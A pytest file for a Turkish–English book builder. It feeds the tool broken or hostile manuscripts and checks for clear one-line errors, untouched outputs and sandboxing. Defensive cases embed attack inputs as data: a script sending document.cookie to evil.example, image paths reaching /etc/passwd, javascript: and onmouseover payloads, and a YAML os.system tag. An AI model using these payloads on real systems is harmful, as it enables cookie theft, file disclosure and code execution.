"""The bad-input corpus: messy files from Word, old Turkish encodings, manuscripts from strangers.

Each case starts from a copy of a book that was built successfully (Turkish EPUB), breaks
one thing, builds again with the real command line and asserts:
  - one line on stderr naming the file (and line), what is wrong and what to do;
  - a non-zero exit code and no traceback;
  - every file in build/ byte-identical to the good build (sha256 before and after).
Inputs ikidil accepts (a BOM, CRLF, mixed line endings, NFD text, harmless HTML) must
build, and give the very same EPUB as the clean manuscript."""

from __future__ import annotations

import codecs
import hashlib
import os
import resource
import shutil
import signal
import subprocess
import sys
import time
import unicodedata
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest

from conftest import BUILD_TR, CHAPTER, SOURCE, TRANSLATION, run_ikidil


def hashes(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def line_of(path: Path, needle: str) -> int:
    text = path.read_bytes().decode("utf-8", "replace").replace("\r\n", "\n").replace("\r", "\n")
    return next(i for i, line in enumerate(text.split("\n"), 1) if needle in line)


def edit(path: Path, old: str, new: str, count: int = 1) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, count), encoding="utf-8")


def append_para(path: Path, para: str) -> int:
    """Add a paragraph after the first one; return its line."""
    text = path.read_text(encoding="utf-8")
    head, rest = text.split("\n\n", 2)[:2], text.split("\n\n", 2)[2]
    path.write_text("\n\n".join([*head, para, rest]), encoding="utf-8")
    return line_of(path, para.split("\n")[0])


def assert_one_line_error(proc, needles) -> str:
    assert proc.returncode not in (0, None), proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, proc.stderr
    for needle in needles:
        assert needle in lines[0], f"{needle!r} not in {lines[0]!r}"
    return lines[0]


# ---- the corpus: each case breaks one thing and returns what the message must say


@dataclass
class Case:
    name: str
    breaks: Callable[[Path], list[str]]     # mutates the book, returns needles for the message
    args: list[str] = field(default_factory=lambda: list(BUILD_TR))
    exit: int = 2                           # 1: the book reads, but check errors stop the build


def cp1254_chapter(root):
    path = root / SOURCE
    text = path.read_text(encoding="utf-8")
    path.write_bytes(text.replace("’", "'").replace("“", '"').replace("”", '"').replace("–", "-")
                     .encode("cp1254"))
    return [f"{SOURCE}:1:", "Windows-1254", "iconv -f CP1254 -t UTF-8"]


def utf16_with_bom(root):
    path = root / TRANSLATION
    path.write_bytes(codecs.BOM_UTF16_LE + path.read_text(encoding="utf-8").encode("utf-16-le"))
    return [f"{TRANSLATION}:1:", "UTF-16", "iconv -f UTF-16 -t UTF-8"]


def utf16_without_bom(root):
    path = root / SOURCE
    path.write_bytes(path.read_text(encoding="utf-8").encode("utf-16-le"))
    return [f"{SOURCE}:1:", "UTF-16 (without a byte order mark)", "iconv -f UTF-16LE -t UTF-8"]


def nul_byte(root):
    path = root / SOURCE
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("\n\n", "\n\n\x00", 3).replace("\n\n\x00", "\n\n", 2), encoding="utf-8")
    return [f"{SOURCE}:{line_of(path, chr(0))}:", "NUL", "save it as UTF-8"]


def cp1254_book_yaml(root):
    path = root / "book.yaml"
    path.write_bytes(path.read_text(encoding="utf-8").replace("’", "'").replace("–", "-").encode("cp1254"))
    return ["book.yaml:", "Windows-1254", "iconv"]


def missing_block(root):
    path = root / TRANSLATION
    text = path.read_text(encoding="utf-8")
    paras = text.split("\n\n")
    gone = paras.pop(4)
    path.write_text("\n\n".join(paras), encoding="utf-8")
    return [f"{TRANSLATION}:", "A002", "has no translation", "translate it or restore"]


def extra_block(root):
    line = append_para(root / TRANSLATION, "An extra paragraph the translator added, which has no source at all.")
    return [f"{TRANSLATION}:{line}:", "A003", "matches no source block", "remove it or merge it"]


def missing_chapter(root):
    (root / TRANSLATION).unlink()
    return [str(TRANSLATION), "missing translation", "create"]


def extra_chapter(root):
    (root / "translations" / "en" / "02-orphan.md").write_text("# Orphan\n\nNo source.\n", encoding="utf-8")
    return ["translations/en/02-orphan.md", "has no source chapter", "rename it"]


def unclosed_note(root):
    line = append_para(root / SOURCE, "Bir paragraf ^[kapanmayan bir dipnot ile biter.")
    return [f"{SOURCE}:{line}:", "'^[' is never closed", "add the closing ']'"]


def undefined_note_reference(root):
    line = append_para(root / SOURCE, "Tanımsız bir dipnota gönderme[^9] yapan paragraf.")
    return [f"{SOURCE}:{line}:", "[^9] has no definition", "[^9]: "]


def unused_note_definition(root):
    path = root / TRANSLATION
    path.write_text(path.read_text(encoding="utf-8") + "\n[^old]: A note nothing refers to.\n", encoding="utf-8")
    line = line_of(path, "[^old]:")
    return [f"{TRANSLATION}:{line}:", "footnote 'old'", "not used", "refer to it with [^key]"]


def note_count_differs(root):
    edit(root / SOURCE, "sorunlu gelişti.", "sorunlu gelişti.^[Bir dipnot.]")
    line = line_of(root / TRANSLATION, "troubled from the very beginning")
    return [f"{TRANSLATION}:{line}", "N001", "1 footnote(s), translation has 0"]


def unknown_citation(root):
    edit(root / SOURCE, "@gokay2006", "@gokay2060")
    line = line_of(root / SOURCE, "@gokay2060")
    return [f"{SOURCE}:{line}:", "unknown citation key '@gokay2060'", "known keys: ", "gokay2006"]


def malformed_bibliography(root):
    edit(root / "bibliography.yaml", "  - id: aslan2002", "  - id: [aslan2002")
    return ["bibliography.yaml:", "malformed bibliography YAML"]


def bibliography_entry_without_id(root):
    edit(root / "bibliography.yaml", "  - id: aslan2002", "  - ident: aslan2002")
    return ["bibliography.yaml", "has no 'id'", "every entry needs an id"]


def missing_bibliography(root):
    (root / "bibliography.yaml").unlink()
    return [f"book.yaml:{line_of(root / 'book.yaml', 'bibliography:')}:", "bibliography file 'bibliography.yaml' not found", "create the file"]


def image_missing(root):
    line = append_para(root / SOURCE, "![Harita](images/harita.png)")
    return [f"{SOURCE}:{line}:", "image 'images/harita.png' does not exist", "relative to the book's folder"]


def image_outside_project(root):
    line = append_para(root / SOURCE, "![Gizli](../../etc/passwd)")
    return [f"{SOURCE}:{line}:", "'../../etc/passwd' is outside the book's folder", "copy it into the book"]


def image_absolute_path(root):
    line = append_para(root / SOURCE, "![Gizli](/etc/passwd)")
    return [f"{SOURCE}:{line}:", "outside the book's folder"]


def image_symlink_escapes(root):
    (root / "images").mkdir()
    (root / "images" / "map.png").symlink_to("/etc/passwd")
    line = append_para(root / SOURCE, "![Harita](images/map.png)")
    return [f"{SOURCE}:{line}:", "outside the book's folder"]


def image_remote(root):
    line = append_para(root / SOURCE, "![Harita](https://example.com/harita.png)")
    return [f"{SOURCE}:{line}:", "remote", "download it into the book's folder"]


def image_file_url(root):
    line = append_para(root / TRANSLATION, "![Secret](file:///etc/passwd)")
    return [f"{TRANSLATION}:{line}:", "'file:' images are not fetched"]


def script_block(root):
    line = append_para(root / SOURCE, "<script>fetch('https://evil.example/?c=' + document.cookie)</script>")
    return [f"{SOURCE}:{line}:", "raw HTML <script> is not allowed", "remove it"]


def script_inline(root):
    edit(root / TRANSLATION, "from the very beginning.", "from the very beginning.<script>alert(1)</script>")
    line = line_of(root / TRANSLATION, "<script>")
    return [f"{TRANSLATION}:{line}:", "<script> is not allowed"]


def html_image_tag(root):
    line = append_para(root / SOURCE, '<img src="https://tracker.example/pixel.gif">')
    return [f"{SOURCE}:{line}:", "raw HTML <img> is not allowed"]


def event_handler_attribute(root):
    edit(root / SOURCE, "sorunlu gelişti.", '[sorunlu gelişti.]{onmouseover="alert(1)"}')
    line = line_of(root / SOURCE, "onmouseover")
    return [f"{SOURCE}:{line}:", "attribute 'onmouseover' is not allowed", "allowed: "]


def javascript_link(root):
    edit(root / SOURCE, "sorunlu gelişti.", "[sorunlu gelişti](javascript:alert(1)).")
    line = line_of(root / SOURCE, "javascript:")
    return [f"{SOURCE}:{line}:", "'javascript:' links", "link only to http(s)"]


def empty_chapter(root):
    (root / SOURCE).write_text("\n  \n", encoding="utf-8")
    return [f"{SOURCE}:1:", "chapter is empty", "write the chapter"]


def comment_only_chapter(root):
    (root / SOURCE).write_text("<!-- TODO: yazılacak -->\n", encoding="utf-8")
    return [f"{SOURCE}:1:", "chapter has no text"]


def empty_book(root):
    (root / SOURCE).unlink()
    return ["manuscript", "the book has no chapters", "add a Markdown file"]


def empty_book_yaml(root):
    (root / "book.yaml").write_text("", encoding="utf-8")
    return ["book.yaml:1:", "must be a mapping"]


def duplicate_chapter_case(root):
    shutil.copy(root / SOURCE, root / "manuscript" / CHAPTER.upper().replace(".MD", ".md"))
    return ["differ only in case", CHAPTER, "rename one"]


def chapter_listed_twice(root):
    path = root / "book.yaml"
    path.write_text(path.read_text(encoding="utf-8") + f"chapters:\n  - {CHAPTER}\n  - {CHAPTER}\n", encoding="utf-8")
    return [f"book.yaml:{line_of(path, 'chapters:')}:", f"'{CHAPTER}' is listed twice", "list each chapter file once"]


def listed_chapter_missing(root):
    path = root / "book.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "chapters: [01-giris.md]\n", encoding="utf-8")
    return [f"book.yaml:{line_of(path, 'chapters:')}:", "'01-giris.md' listed in book.yaml is not in manuscript/"]


def book_yaml_wrong_type(key, value, message):
    def breaks(root):
        path = root / "book.yaml"
        lines = [l for l in path.read_text(encoding="utf-8").split("\n")]
        out, skipping = [], False
        for l in lines:  # drop the key (and its indented block), then add the wrong value at the end
            if l.startswith(f"{key}:"):
                skipping = True
                continue
            if skipping and (l.startswith("  ") or not l.strip()):
                continue
            skipping = False
            out.append(l)
        path.write_text("\n".join(out) + f"\n{key}: {value}\n", encoding="utf-8")
        return [f"book.yaml:{line_of(path, f'{key}: {value}')}:", message]
    breaks.__name__ = f"book_yaml_{key}_{type(value).__name__}"
    return breaks


def unsafe_yaml_tag(root):
    path = root / "book.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "publisher: !!python/object/apply:os.system ['touch /tmp/pwned']\n",
                    encoding="utf-8")
    return [f"book.yaml:{line_of(path, '!!python')}:", "malformed YAML", "python/object/apply"]


def unknown_csl(root):
    edit(root / "book.yaml", "csl: chicago-notes-bibliography-classic-no-url", "csl: chicago-notes-bibliografy")
    return [f"book.yaml:{line_of(root / 'book.yaml', 'csl:')}:", "unknown CSL style", "did you mean"]


def unknown_edition(root):
    return ["unknown edition 'fr'", "choose from tr, en, bilingual"]


CASES = [
    Case("cp1254 chapter", cp1254_chapter),
    Case("cp1254 book.yaml", cp1254_book_yaml),
    Case("UTF-16 with BOM", utf16_with_bom),
    Case("UTF-16 without BOM", utf16_without_bom),
    Case("NUL byte", nul_byte),
    Case("missing translation block", missing_block, exit=1),
    Case("extra translation block", extra_block, exit=1),
    Case("missing translation chapter", missing_chapter, exit=1),
    Case("translation chapter without source", extra_chapter),
    Case("unclosed inline footnote", unclosed_note),
    Case("footnote reference without definition", undefined_note_reference),
    Case("footnote definition never used", unused_note_definition),
    Case("footnote count differs", note_count_differs, exit=1),
    Case("citation key not in bibliography", unknown_citation),
    Case("malformed bibliography", malformed_bibliography),
    Case("bibliography entry without id", bibliography_entry_without_id),
    Case("bibliography file missing", missing_bibliography),
    Case("image does not exist", image_missing),
    Case("image path outside the project", image_outside_project),
    Case("image absolute path", image_absolute_path),
    Case("image symlink out of the project", image_symlink_escapes),
    Case("remote image URL", image_remote),
    Case("file: image URL", image_file_url),
    Case("raw HTML <script> block", script_block),
    Case("raw HTML <script> inline", script_inline),
    Case("raw HTML <img> fetching a tracker", html_image_tag),
    Case("event handler attribute", event_handler_attribute),
    Case("javascript: link", javascript_link),
    Case("empty chapter", empty_chapter),
    Case("chapter of comments only", comment_only_chapter),
    Case("empty book", empty_book),
    Case("empty book.yaml", empty_book_yaml),
    Case("duplicate chapter file name (case)", duplicate_chapter_case),
    Case("chapter listed twice", chapter_listed_twice),
    Case("listed chapter missing", listed_chapter_missing),
    Case("book.yaml title is a number", book_yaml_wrong_type("title", 5, "'title' must map language tags")),
    Case("book.yaml translations is a number", book_yaml_wrong_type("translations", 3, "'translations' must be a list")),
    Case("book.yaml length_ratio is text", book_yaml_wrong_type("length_ratio", "wide", "'length_ratio' must be two numbers")),
    Case("book.yaml policy is a list", book_yaml_wrong_type("policy", "[warn]", "'policy' must map")),
    Case("book.yaml python tag", unsafe_yaml_tag),
    Case("unknown CSL style", unknown_csl),
    Case("unknown edition", unknown_edition, ["build", "-e", "fr", "-f", "epub"]),
]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_bad_input_is_one_clear_line_and_leaves_outputs_untouched(book, case):
    before = hashes(book / "build")
    needles = case.breaks(book)
    proc = run_ikidil(case.args, cwd=book)
    assert_one_line_error(proc, needles)
    assert proc.returncode == case.exit
    assert hashes(book / "build") == before
    assert not Path("/tmp/pwned").exists()


def test_a_check_error_wins_over_a_rendering_error(book):
    """The checks run beside the rendering; their error is still the one reported, as when
    they ran first, and no staged output is left in the build folder."""
    before = hashes(book / "build")
    needles = missing_block(book)
    unknown_csl(book)
    proc = run_ikidil(BUILD_TR, cwd=book)
    assert_one_line_error(proc, needles)
    assert hashes(book / "build") == before
    assert not list((book / "build").glob(".ikidil-staging-*"))


def test_debug_shows_the_traceback_for_bad_input(book):
    cp1254_chapter(book)
    proc = run_ikidil(["--debug", *BUILD_TR], cwd=book)
    assert proc.returncode != 0
    assert "Traceback" in proc.stderr and "BookError" in proc.stderr


# ---- inputs that are accepted: normalised, and the book comes out the same


def with_bom(root):
    for rel in (SOURCE, TRANSLATION, Path("book.yaml"), Path("bibliography.yaml")):
        (root / rel).write_bytes(codecs.BOM_UTF8 + (root / rel).read_bytes())


def with_crlf(root):
    for rel in (SOURCE, TRANSLATION, Path("book.yaml")):
        (root / rel).write_bytes((root / rel).read_bytes().replace(b"\n", b"\r\n"))


def with_mixed_line_endings(root):
    for rel in (SOURCE, TRANSLATION):
        lines = (root / rel).read_bytes().split(b"\n")
        ends = [b"\r\n", b"\n", b"\r"]
        (root / rel).write_bytes(b"".join(l + ends[i % 3] for i, l in enumerate(lines[:-1])) + lines[-1])


def with_nfd(root):
    for rel in (SOURCE, TRANSLATION):
        text = (root / rel).read_text(encoding="utf-8")
        nfd = unicodedata.normalize("NFD", text)
        assert nfd != text
        (root / rel).write_text(nfd, encoding="utf-8")


def with_comment_and_harmless_html(root):
    edit(root / SOURCE, "sorunlu gelişti.", "sorunlu <b>gelişti</b>.<!-- kontrol et -->")
    append_para(root / SOURCE, "<!-- editörün notu: bu bölümü kısalt -->")


@pytest.mark.parametrize("breaks", [with_bom, with_crlf, with_mixed_line_endings, with_nfd,
                                    with_comment_and_harmless_html])
def test_accepted_input_builds_the_same_book(book, breaks):
    before = hashes(book / "build")
    breaks(book)
    proc = run_ikidil(BUILD_TR, cwd=book)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    assert hashes(book / "build") == before     # normalised to the very same NFC/LF text


def test_harmless_html_is_stripped_with_a_warning(book):
    with_comment_and_harmless_html(book)
    proc = run_ikidil(BUILD_TR, cwd=book)
    assert proc.returncode == 0, proc.stderr
    line = line_of(book / SOURCE, "<b>")
    warnings = [l for l in proc.stderr.splitlines() if "raw HTML" in l]
    assert len(warnings) == 2, proc.stderr   # <b> and </b>; the comments go silently
    assert warnings[0].startswith(f"{SOURCE}:{line}: warning: raw HTML <b> removed")
    assert "write it in Markdown" in warnings[0]
    quiet = run_ikidil(["--quiet", *BUILD_TR], cwd=book)
    assert quiet.returncode == 0 and "raw HTML" not in quiet.stderr and quiet.stdout == ""


def test_metadata_is_escaped_in_xml(book):
    """A title full of markup characters is text in the EPUB's XML, never markup."""
    from lxml import etree
    import zipfile
    title = 'Kitap <script>alert(1)</script> & "Q" ]]> &amp;'
    path = book / "book.yaml"
    text = path.read_text(encoding="utf-8")
    start = text.index("  tr: Mustafa Kemal Paşa")
    end = text.index("\n", start)
    escaped = title.replace("\\", "\\\\").replace('"', '\\"')
    path.write_text(text[:start] + f'  tr: "{escaped}"' + text[end:], encoding="utf-8")
    proc = run_ikidil(BUILD_TR, cwd=book)
    assert proc.returncode == 0, proc.stderr
    epub = max((book / "build").glob("*.tr.epub"), key=lambda p: p.stat().st_mtime)
    with zipfile.ZipFile(epub) as zf:
        opf = etree.fromstring(zf.read("EPUB/content.opf"))
        for name in zf.namelist():
            if name.endswith((".xhtml", ".opf", ".ncx")):
                root = etree.fromstring(zf.read(name))             # every XML file still parses
                assert not root.xpath("//*[local-name()='script']"), name
    titles = opf.xpath("//*[local-name()='title']/text()")
    assert title in titles


# ---- big input


def test_five_megabyte_chapter_builds_with_progress(book):
    """A 5 MB chapter (and its translation) builds; --verbose reports the stages and the big reads."""
    copies = 5_000_000 // len((book / SOURCE).read_bytes().split(b"\n\n", 1)[1]) + 2
    for rel in (SOURCE, TRANSLATION):
        text = (book / rel).read_text(encoding="utf-8")
        heading, body = text.split("\n\n", 1)
        (book / rel).write_text(heading + "\n\n" + "\n\n".join([body.strip()] * copies) + "\n", encoding="utf-8")
    assert (book / SOURCE).stat().st_size > 5_000_000
    proc = run_ikidil(["--verbose", *BUILD_TR], cwd=book, timeout=300)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert f"reading {SOURCE} (5." in proc.stderr
    for stage in ("· load", "· check", "· epub tr"):
        assert stage in proc.stderr, proc.stderr
    epub = next((book / "build").glob("*.tr.epub"))
    with zipfile.ZipFile(epub) as zf:       # the repeated text compresses well: count it unpacked
        assert sum(info.file_size for info in zf.infolist() if info.filename.endswith(".xhtml")) > 5_000_000


# ---- the disk, not the book


def test_unwritable_build_folder(book):
    """build/ is read-only: one line naming it, nothing changed. (Root ignores permissions,
    so as root the build runs without the capabilities that let it: setpriv drops them.)"""
    shutil.rmtree(book / ".ikidil-cache", ignore_errors=True)    # so that the build must write
    build = book / "build"
    before = hashes(build)
    prefix = []
    if os.geteuid() == 0:
        prefix = ["setpriv", "--bounding-set=-dac_override,-dac_read_search,-fowner", "--"]
    build.chmod(0o555)
    try:
        proc = subprocess.run([*prefix, sys.executable, "-m", "ikidil", *BUILD_TR], cwd=book,
                              capture_output=True, text=True)
    finally:
        build.chmod(0o755)
    assert_one_line_error(proc, ["ikidil: build: cannot write", "into this folder: Permission denied",
                                 "check the folder's permissions"])
    assert proc.returncode == 2
    assert hashes(build) == before
    assert not list(build.glob("*.part"))


def test_disk_full(book):
    """A write that fails half-way (file size limit, as on a full disk) leaves the old book."""
    shutil.rmtree(book / ".ikidil-cache", ignore_errors=True)    # so that the build must write
    before = hashes(book / "build")

    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))
    proc = subprocess.run([sys.executable, "-m", "ikidil", *BUILD_TR], cwd=book, capture_output=True,
                          text=True, preexec_fn=limit)
    assert_one_line_error(proc, ["ikidil: ", "File too large", "free space"])
    assert hashes(book / "build") == before
    assert not list((book / "build").glob("*.part"))


@pytest.mark.parametrize("how, code", [("SIGINT", 130), ("SIGINT to the group", 130), ("SIGTERM", 143)])
def test_interrupted_build_leaves_no_half_written_book(book, how, code):
    """Ctrl-C (SIGINT to ikidil, or to its whole process group as a terminal sends it) or
    SIGTERM in the middle of rendering: one line, exit 130/143, no *.part, the old outputs
    intact, and no process of the build left running (layout workers, Pandoc)."""
    shutil.rmtree(book / ".ikidil-cache", ignore_errors=True)
    before = hashes(book / "build")
    proc = subprocess.Popen([sys.executable, "-m", "ikidil", "--verbose", "build", "-e", "tr",
                             "-f", "epub", "-f", "pdf", "--pdf-variant", "digital"],
                            cwd=book, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            start_new_session=True)
    seen = []
    for line in proc.stderr:                      # wait until the PDF is being rendered
        seen.append(line)
        if line.startswith("· pdf tr"):
            break
    time.sleep(0.3)
    if how == "SIGINT to the group":
        os.killpg(proc.pid, signal.SIGINT)
    else:
        proc.send_signal(getattr(signal, how))
    rest = proc.stderr.read()
    assert proc.wait(timeout=60) == code, "".join(seen) + rest
    assert rest == "ikidil: interrupted; outputs from before are untouched\n", "".join(seen) + rest
    assert not [p for p in book.rglob("*") if p.name.endswith(".part")]
    assert not list((book / "build").glob("*.pdf"))       # no half-written PDF
    assert not list((book / "build").glob(".ikidil-staging-*"))
    assert hashes(book / "build") == before
    assert not running_in_session(proc.pid, seconds=5)


def running_in_session(session: int, seconds: float) -> list[str]:
    """The live (not zombie) processes of a session, once they have had `seconds` to end."""
    deadline = time.monotonic() + seconds
    while True:
        ps = subprocess.run(["ps", "-o", "stat=,args=", "-s", str(session)], capture_output=True, text=True)
        alive = [line for line in ps.stdout.splitlines() if line.strip() and not line.lstrip().startswith("Z")]
        if not alive or time.monotonic() > deadline:
            return alive
        time.sleep(0.1)


# ---- the doors ikidil keeps shut, tested on the real tools


def test_pandoc_runs_sandboxed(tmp_path):
    """Even if a path got past the loader, Pandoc (always --sandbox) could not read it."""
    import zipfile
    from ikidil import pandoc
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\nSECRET-BYTES")
    out = tmp_path / "x.epub"
    pandoc.run(["-f", "markdown", "-t", "epub3", "-o", str(out)], stdin=f"# T\n\n![x]({secret})\n")
    with zipfile.ZipFile(out) as zf:
        assert not any(b"SECRET-BYTES" in zf.read(n) for n in zf.namelist())
        assert not [n for n in zf.namelist() if n.startswith("EPUB/media/")]


def test_weasyprint_fetches_only_project_files(tmp_path):
    from weasyprint.urls import URLFetchingError
    from ikidil.render.fetch import ProjectFetcher
    project = tmp_path / "book"
    (project / "images").mkdir(parents=True)
    (project / "images" / "ok.txt").write_text("fine")
    fetcher = ProjectFetcher(project)
    assert fetcher.fetch((project / "images" / "ok.txt").as_uri())
    for url in ("file:///etc/passwd", (project / ".." / "x").resolve().as_uri(),
                "https://example.com/pixel.png", "ftp://example.com/x"):
        with pytest.raises(URLFetchingError):
            fetcher.fetch(url)
    assert len(fetcher.refused) == 4
